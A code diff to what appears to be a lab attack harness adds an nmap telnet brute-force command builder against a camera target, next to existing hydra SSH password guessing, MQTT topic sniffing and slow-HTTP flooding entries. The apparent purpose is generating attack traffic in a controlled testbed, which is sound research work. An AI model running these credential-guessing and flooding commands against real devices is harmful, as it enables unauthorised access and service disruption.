@@ -12,6 +12,7 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
+from jixiaoan.lab.deps import TELNET_TOOLS
 from jixiaoan.lab.devices import CAMERA_PASSWORD, CAMERA_USER
 from jixiaoan.lab.topology import TARGETS
 
@@ -73,6 +74,15 @@ def _hydra(ip: str, p: dict[str, str], work: Path) -> list[str]:
             "-t", p["tasks"], "-W", p["wait"], "-f", f"ssh://{ip}:{p['port']}"]
 
 
+def _telnet_brute(ip: str, p: dict[str, str], work: Path) -> list[str]:
+    users = work / "users.txt"
+    users.write_text(p["user"] + "\n")
+    args = (f"userdb={users},passdb={_wordlist(work, int(p['words']))},brute.firstonly=true,"
+            f"brute.threads={p['tasks']},unpwdb.timelimit={p['duration']}s")
+    return ["nmap", "-n", "-Pn", "-p", p["port"], "--script", "telnet-brute", "--script-args",
+            args, ip]
+
+
 def _mqtt_abuse(ip: str, p: dict[str, str], _work: Path) -> list[str]:
     script = (
         f"mosquitto_sub -h {ip} -i evil-sub -t '#' -v -W {p['duration']} >/dev/null & "
@@ -107,6 +117,10 @@ ATTACKS: dict[str, Attack] = {a.name: a for a in (
            {"user": CAMERA_USER, "words": "100", "tasks": "4", "wait": "0", "port": "22",
             "duration": "60"},
            _hydra, "hydra SSH password guessing: `words` guesses, `tasks` at a time"),
+    Attack("telnet-bruteforce", "telnet-bruteforce", ("nmap", *TELNET_TOOLS), "camera",
+           {"user": CAMERA_USER, "words": "20", "tasks": "4", "port": "23", "duration": "60"},
+           _telnet_brute, "nmap telnet-brute against the camera's telnet login (needs "
+           "tools/lab-deps.sh --with-telnet)"),
     Attack("slow-http", "slow-http", ("slowhttptest",), "camera",
            {"connections": "60", "rate": "20", "interval": "5", "duration": "20"},
            lambda ip, p, w: ["slowhttptest", "-H", "-c", p["connections"], "-r", p["rate"],
